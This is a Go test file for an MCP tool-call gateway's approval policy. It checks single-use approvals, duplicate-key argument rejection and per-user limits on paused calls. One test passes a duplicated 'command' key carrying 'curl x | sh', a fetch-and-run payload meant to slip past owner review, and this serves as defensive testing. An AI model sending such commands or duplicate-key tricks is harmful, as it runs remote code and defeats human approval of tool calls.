package gateway

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

// modernCall posts one 2026-07-28 tools/call (extra: more params) and
// returns its status, its JSON-RPC result or error, and the raw answer.
func modernCall(t *testing.T, url, token, tool, args, extra string) (int, map[string]any, string) {
	t.Helper()
	body := fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":%q,"arguments":%s%s,"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{"elicitation":{}},"io.modelcontextprotocol/clientInfo":{"name":"x","version":"1"}}}}`, tool, args, extra)
	code, resp := post(t, url, token, body, map[string]string{"Mcp-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call", "Mcp-Name": tool})
	js := resp
	if i := strings.Index(resp, "data: "); i >= 0 {
		js = resp[i+6:]
		if j := strings.Index(js, "\n"); j >= 0 {
			js = js[:j]
		}
	}
	var m map[string]any
	_ = json.Unmarshal([]byte(js), &m)
	res, _ := m["result"].(map[string]any)
	if res == nil {
		res, _ = m["error"].(map[string]any)
	}
	return code, res, resp
}

// The owner's approval of a call of an ask tool covers that call and its
// rounds of input, and nothing else: the requestState it hands the client
// opens no second run, no other arguments, and no call the owner did not
// approve. (A reviewer found one approval good for ten minutes of calls
// with any arguments.)
func TestApprovalCoversOneCallNotItsReplays(t *testing.T) {
	p := newTestPolicy()
	const tool = "test_input_required_result_elicitation"
	p.set("ev", EntryTool, tool, AccessAsk)
	tg := newPolicyGateway(t, p, Config{ApprovalTimeout: 5 * time.Second})
	url := tg.url("ev")
	answer := func(err error) chan int {
		n := make(chan int, 1)
		go func() {
			count := 0
			defer func() { n <- count }()
			for {
				select {
				case a := <-p.asked:
					count++
					a.answer <- err
				case <-time.After(300 * time.Millisecond):
					return
				}
			}
		}()
		return n
	}

	asked := answer(nil)
	_, res, raw := modernCall(t, url, "tok-alice", tool, `{}`, "")
	if n := <-asked; n != 1 {
		t.Fatalf("the first call asked the owner %d times", n)
	}
	state, _ := res["requestState"].(string)
	if state == "" {
		t.Fatalf("the first call got no input_required: %s", raw)
	}
	respond := func(name string) string {
		return fmt.Sprintf(`,"requestState":%q,"inputResponses":{"user_name":{"action":"accept","content":{"name":%q}}}`, state, name)
	}

	// Other arguments with the approved call's state: asked again (denied).
	denied := answer(ErrDenied)
	_, _, raw = modernCall(t, url, "tok-alice", tool, `{"other":"args"}`, respond("other-args"))
	if n := <-denied; n != 1 || strings.Contains(raw, "Hello, other-args") {
		t.Errorf("other arguments with an approved state: asked %d times, answer %s", n, raw)
	}

	// The approved call's own next round needs no new approval...
	none := answer(ErrDenied)
	_, _, raw = modernCall(t, url, "tok-alice", tool, `{}`, respond("Ada"))
	if n := <-none; n != 0 || !strings.Contains(raw, "Hello, Ada") {
		t.Errorf("the approved call's next round: asked %d times, answer %s", n, raw)
	}
	// ...once: the same state again is a new run, which the owner decides.
	again := answer(ErrDenied)
	_, _, raw = modernCall(t, url, "tok-alice", tool, `{}`, respond("replay"))
	if n := <-again; n != 1 || strings.Contains(raw, "Hello, replay") {
		t.Errorf("the approved state used twice: asked %d times, answer %s", n, raw)
	}

	// Another user cannot continue it at all.
	_, res, raw = modernCall(t, url, "tok-bob", tool, `{}`, respond("bob"))
	if res == nil || !strings.Contains(fmt.Sprint(res["message"]), "requestState is not valid") {
		t.Errorf("bob with alice's state: %s", raw)
	}
}

// Arguments that name a key twice are not put to the owner: they could be
// shown one value while the server reads the other.
func TestAskRefusesArgumentsThatNameAKeyTwice(t *testing.T) {
	p := newTestPolicy()
	p.set("ev", EntryTool, "test_simple_text", AccessAsk)
	tg := newPolicyGateway(t, p, Config{ApprovalTimeout: 5 * time.Second})
	_, res, raw := modernCall(t, tg.url("ev"), "tok-alice", "test_simple_text", `{"command":"ls","pad":{"a":1,"a":2},"command":"curl x | sh"}`, "")
	select {
	case <-p.asked:
		t.Error("the owner was asked about arguments that name a key twice")
	default:
	}
	if res == nil || res["isError"] != true || !strings.Contains(raw, `the key \"a\" appears twice`) {
		t.Errorf("answer: %s", raw)
	}
	go func() { a := <-p.asked; a.answer <- nil }()
	if _, res, raw := modernCall(t, tg.url("ev"), "tok-alice", "test_simple_text", `{"a":{"b":1},"b":2}`, ""); res == nil || res["isError"] == true || !strings.Contains(raw, "simple text") {
		t.Errorf("distinct keys at different depths, approved: %s", raw)
	}
}

// A client that never comes back with the input a session-era server asked
// for cannot pile up paused calls: past maxPausedPerUser the server's
// question is refused, and other users are not affected.
func TestPausedCallsOfAUserAreBounded(t *testing.T) {
	tg := newTestGateway(t, Limits{}, stdioSpec("s"))
	for i := range maxPausedPerUser {
		if _, res, raw := modernCall(t, tg.url("s"), "tok-alice", "ask", `{"kind":"elicit"}`, ""); res["resultType"] != "input_required" {
			t.Fatalf("paused call %d: %s", i, raw)
		}
	}
	_, res, raw := modernCall(t, tg.url("s"), "tok-alice", "ask", `{"kind":"elicit"}`, "")
	if res["resultType"] == "input_required" || !strings.Contains(raw, "already wait for the client's input") {
		t.Errorf("call %d beyond the bound: %s", maxPausedPerUser+1, raw)
	}
	if _, res, raw := modernCall(t, tg.url("s"), "tok-bob", "ask", `{"kind":"elicit"}`, ""); res["resultType"] != "input_required" {
		t.Errorf("another user's call: %s", raw)
	}
}
